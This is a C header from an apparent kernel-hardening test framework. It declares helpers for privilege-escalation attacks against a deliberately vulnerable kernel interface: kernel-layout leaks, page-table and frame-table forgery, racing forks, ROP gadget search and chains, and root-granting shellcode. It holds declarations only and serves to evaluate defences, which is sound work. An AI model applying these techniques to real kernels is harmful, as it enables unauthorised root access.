/*
 * What the attacks share: the leak, direct-map synonyms, payloads.
 *
 * An attack only tries. Whether it got anywhere is for the kernel to say (struct bw_report), so
 * that a program cannot claim a success. Its exit code tells only how far it came: 0 tried and came
 * back, ATTACK_EXIT_SKIP cannot be tried here, ATTACK_EXIT_DENIED the kernel refused a vulnerable
 * call. docs/attacks.md shows how to write one.
 */
#pragma once

#include "bulwark.h"

enum { ATTACK_EXIT_SKIP = 77, ATTACK_EXIT_DENIED = 78 };

/* ---- Telling (attack.c) ---- */

/* Prints one line of what the attack is about to do. */
void attack_say(const char *format, ...) __attribute__((format(printf, 1, 2)));
/* Ends the attack: it cannot be tried on this machine. */
_Noreturn void attack_skip(const char *reason);
/* Ends the attack as denied where `status`, the result of the call, is -ENOSYS or -EPERM. */
void attack_check(const char *call, long status);
/* Says which uid the process has by now; returns the exit code for "tried and came back". */
int attack_finish(void);

/* ---- Knowing (attack.c) ---- */

/* Fills in the leak, or ends the attack as denied. */
void attack_leak(struct bw_leak *leak);
/* Anonymous memory, every page of it present; ends the attack where there is none. */
void *attack_pages(size_t nr_bytes);
/*
 * A page of this program, writable, that exec filled from the file: as a page that a disk fills,
 * the kernel neither zeroes nor copies it.
 */
void *attack_file_page(void);
/* One 2 MiB page, present; ends the attack where there is none. */
void *attack_huge_page(void);
/*
 * Blocks. Sleeps for a moment: without PCIDs this processor then remembers nothing that the kernel
 * did for this process. For attacks on what page tables say, where xpfo=v7noflush flushes nothing.
 */
void attack_settle(void);
/*
 * Blocks. The witness looks at this address space now: a process that shares it leaves it. For
 * attacks that cannot keep what they have until they end.
 */
void attack_have_witnessed(void);
/* The frame behind a mapped address of this process. */
uint64_t attack_pfn(const void *address);
/* Where the direct map would have the same byte. */
uint64_t attack_synonym(const struct bw_leak *leak, const void *address);

/*
 * For whoever has got I/O ports: has a device of QEMU's write 0 to four bytes of physical memory
 * (attack_dma.c). False: this machine has no such device. Before it gets them it prepares the
 * request: a page fault may take the ports again.
 */
void attack_dma_prepare(void);
bool attack_dma_zero32(uint64_t pa);

/* ---- Page tables and frames, read through the direct map (attack_walk.c) ---- */

/* The frame that an entry of a page table leads to. */
static inline uint64_t attack_entry_frame(uint64_t entry) { return entry >> 12 & 0xfffffffff; }
/* The entry of the 4 KiB page at an address in the root at this frame, and where it is; 0: none. */
uint64_t attack_entry(const struct bw_leak *leak, uint64_t root, uint64_t address, uint64_t *place);
/* The same of the table below which that page is: level 2 is the page table's, as the manuals count
 * them. */
uint64_t attack_entry_at(const struct bw_leak *leak, uint64_t root, uint64_t address, int level,
			 uint64_t *place);
/* The 4 KiB pages of user space that the root leads to, from the lowest address on, at most so
 * many; how many there are. */
struct attack_page {
	uint64_t address, place, entry; /* place: of the entry */
};
size_t attack_list_pages(const struct bw_leak *leak, uint64_t root, struct attack_page *pages,
			 size_t nr_most);
/* The frame table says of the page tables of these pages that this root leads to them. Debug builds
 * hold that against what they flush. */
void attack_note_root(const struct bw_leak *leak, const struct attack_page *pages, size_t nr,
		      uint64_t root);
/*
 * Where the kernel keeps the links of the frame behind an address of its own. Of a pool's frame
 * they say which page of its area it is, in units of FRAME_LINK_PREV.
 */
#define FRAME_LINK_PREV (1ul << 29)
uint64_t attack_frame_link(const struct bw_leak *leak, uint64_t address);

/* Two ranges of 2 MiB, one behind the other, each with a page table of its own: the first page of
 * the first is there, of the second `has_second` says it. Ends the attack where there are none. */
enum { ATTACK_RANGE_BYTES = 512 * BW_PAGE_SIZE };
volatile char *attack_ranges(bool has_second);
/* Where the direct map has a frame. */
static inline uint64_t attack_frame_alias(const struct bw_leak *leak, uint64_t pfn)
{
	return leak->direct_map_base + pfn * BW_PAGE_SIZE;
}
/* Adds to the 8 bytes at a kernel address. */
void attack_add(uint64_t address, uint64_t increment);

/* ---- Stocks of frames (attack_stock.c) ---- */

/* Puts this frame in the place of the one that the processor would take next, with one store where
 * there is one. The frame that was there; 0: none was. */
uint64_t attack_stock_forge(const struct bw_stock *stock, uint64_t pfn);
/* Puts it back, once the forged one was taken; does nothing for 0. */
void attack_stock_return(const struct bw_stock *stock, uint64_t pfn);
/* Puts one in the place of another that is in the stock by now. */
void attack_stock_replace(const struct bw_stock *stock, uint64_t pfn, uint64_t by);

/* What the kernel's books say of a frame, but for the frame's place in lists. */
struct attack_frame_books {
	uint64_t place, state;           /* of its entry in the frame table, 8 bytes */
	uint64_t links_place, links;     /* the same beside it */
	uint64_t history_place, history; /* what it was before */
};
void attack_frame_books_read(const struct bw_leak *leak, uint64_t pfn,
			     struct attack_frame_books *books);
/* Writes what was read. */
void attack_frame_books_restore(const struct attack_frame_books *books);
/* The frame counts as free, and as hidden or not as it is. */
void attack_frame_books_free(const struct attack_frame_books *books);
/* The frame table says: a page table that is empty, and that nothing leads to. */
void attack_frame_books_no_table(const struct attack_frame_books *books);
/* The same of a root: no address space has it. */
void attack_frame_books_idle_root(const struct attack_frame_books *books);

/* ---- The boot archive (attack_archive.c) ---- */

/* Kernel memory, through the vulnerable read. */
void attack_read(uint64_t from, void *to, size_t nr_bytes);
/* Where the archive has the first byte of this file ("bin/sh"), from its own first byte on; 0: it
 * does not have it. */
uint64_t attack_archive_find(const struct bw_leak *leak, const char *name);

/* ---- Sealed memory (attack_sealed.c) ---- */

/* Where it lies, or ends the attack as denied. */
void attack_sealed(struct bw_sealed *sealed);
/* A new pool's object, open, or sealed; ends the attack where there is none. */
uint64_t attack_pool_open(void);
void attack_pool_seal(uint64_t object);
/* Writes eight bytes that are not BW_SEALED_VALUE through the vulnerable write. */
void attack_overwrite(uint64_t address, const char *what);

/* ---- The gate (attack_gate.c) ---- */

/* A fork on processor ATTACK_GATE_CPU has it share a page of the attack's. */
enum { ATTACK_GATE_CPU = 1 };
struct attack_gate {
	uint64_t stack;       /* one past its stack there */
	bool waits;           /* it lacks the rule, and waits between check and use */
	uint64_t own, theirs; /* the word that says where the page's entry is, and the one that
				 makes it the first process's */
	volatile struct attack_gate_done *done;
};
/* In shared memory, as a page that a fork has made read-only makes who stores there wait for it. */
struct attack_gate_done {
	bool is_foreign; /* a child had a page of the first process's */
	unsigned int nr_met,
		nr_stores; /* how often the gate was found at it; stores to what it had */
};
/* A whole attack: makes the change in fork after fork, until there is such a child. Meanwhile it
 * stores to its stack and `done` alone. Returns the exit code. */
int attack_gate_fork(void (*change)(const struct attack_gate *gate));

/* A gate that lacks a rule waits where it has checked this; every other does not. */
void attack_held_ask(const struct bw_leak *leak, uint64_t what);
bool attack_held_is_there(const struct bw_leak *leak);
void attack_held_release(const struct bw_leak *leak);

/* ---- Two processors (attack_cpus.c) ---- */

unsigned int attack_nr_cpus(void);
/*
 * Blocks. How those begin that take several processors: fills in the leak, pins the calling thread,
 * and ends the attack as skipped where the machine has fewer processors.
 */
void attack_begin(struct bw_leak *leak, unsigned int nr_cpus, unsigned int cpu);
/* Blocks. From now on the calling thread runs on this processor. */
void attack_pin(unsigned int cpu);
/* Blocks until a new thread has pinned itself to this processor: it runs the body then, and is
 * joined by nobody. */
void attack_thread(unsigned int cpu, void (*body)(void *), void *argument);

/* How far the attack has come, told by one thread to another. Zero at first. */
typedef volatile unsigned int attack_stage;
void attack_tell(attack_stage *stage, unsigned int value);
/*
 * Blocks until the stage is at least `value`, and ends the attack as broken when that takes too
 * long. AWAIT_SPIN stays in user mode and leaves the processor to nobody; AWAIT_YIELD makes room
 * for other threads after each look, and has done so at least once when it returns.
 */
enum attack_await { AWAIT_SPIN, AWAIT_YIELD };
void attack_await(const attack_stage *stage, unsigned int value, enum attack_await how);
/*
 * Has the kernel read this address, so that this processor's TLB leads there. Repeats that among
 * other calls: what the kernel uses most is in the TLB then, too, and will push nothing out.
 */
void attack_warm(uint64_t synonym);
/* Blocks until this many threads of this process are parked in the kernel. */
void attack_await_parked(long nr);
/*
 * A whole attack. While one processor is parked in this call, which keeps the frame of a page with
 * a forged object mapped, another calls through the page's synonym. `how` completes the sentence
 * that the frame is held. Returns the exit code.
 */
int attack_while_held(const char *call, long (*hold)(const void *page), const char *how);

/* ---- Frames that change hands (attack_frames.c) ---- */

/* A frame that is free, and will be handed to this process next. */
struct attack_frame {
	uint64_t pfn;
	uint64_t synonym;
	bool is_small; /* a 4 KiB page will have it; otherwise a 2 MiB page */
};

/*
 * Where variants of XPFO have kept most of free memory out of the direct map, brings some of it
 * back there: for attacks that must find such frames to succeed.
 */
void attack_frames_reveal(void);
/*
 * A frame that this process gave back, that is in the direct map, and that its next 4 KiB page will
 * have. False: the variant of XPFO does not put it there, or keeps frames in a cache before it.
 */
bool attack_frame_give_small(const struct bw_leak *leak, struct attack_frame *frame);
/*
 * Blocks. Takes 2 MiB pages until it can tell where the next one will lie, and chooses a frame in
 * there that is in the direct map now: one that it gives back, or, where such a frame stays hidden,
 * one that is the kernel's. Where hardly any of these is left it is the hidden one all the same.
 */
void attack_frame_predict(const struct bw_leak *leak, struct attack_frame *frame);
/* The first of the two if it can be had, else the second. */
void attack_frame_find(const struct bw_leak *leak, struct attack_frame *frame);
/*
 * Takes the page, or the next 2 MiB page: where that frame appears in it, or NULL where the
 * prediction was wrong.
 */
void *attack_frame_take(const struct attack_frame *frame);
/* Takes it so, and forges an object there. False: as NULL. */
bool attack_frame_forge(const struct bw_leak *leak, const struct attack_frame *frame);

/* ---- Payloads (payload.c, rop.c) ---- */

/* A forged object and its table, laid out one after the other. */
struct payload_object {
	struct bw_vuln_object object;
	struct bw_vuln_ops ops;
};

/*
 * Forges an object at `at`, which the kernel will find at address `seen_at`, so that calling
 * through it is credentials_set(process, 0).
 */
void payload_object(void *at, uint64_t seen_at, const struct bw_leak *leak);
/*
 * Machine code that makes the process root and returns; position independent. The number of bytes.
 */
size_t payload_shellcode(void *at, const struct bw_leak *leak);

/*
 * The kernel's text, taken through the vulnerable read as far as it was looked at: each read is a
 * system call, and what is looked for comes early.
 */
struct gadget_text {
	uint64_t base;
	size_t nr_bytes;
	size_t nr_read;
	uint8_t *copy;
};

/* `pop REGISTER`, any number of further pops, `ret`: somewhere in the kernel's text. */
struct gadget {
	uint64_t address;
	uint64_t at_return;    /* that of its last instruction, the ret */
	unsigned int nr_extra; /* further words that it pops */
};
enum gadget_register { GADGET_RSP = 4, GADGET_RSI = 6, GADGET_RDI = 7 };

/* Ends the attack where there is no memory for a copy. Nothing is read yet. */
void gadget_text_open(struct gadget_text *text, const struct bw_leak *leak);
/* Finds the first gadget at this address or above; false where there is none. */
bool gadget_find(struct gadget_text *text, uint64_t from, enum gadget_register reg,
		 struct gadget *gadget);

/*
 * Writes a chain to the top of a page that the kernel will find at `seen_at`:
 * credentials_set(process, 0), then back to user mode at `resume`, on a stack of its own. The
 * address to pivot to.
 */
uint64_t payload_chain(void *page, uint64_t seen_at, const struct bw_leak *leak,
		       void (*resume)(void));
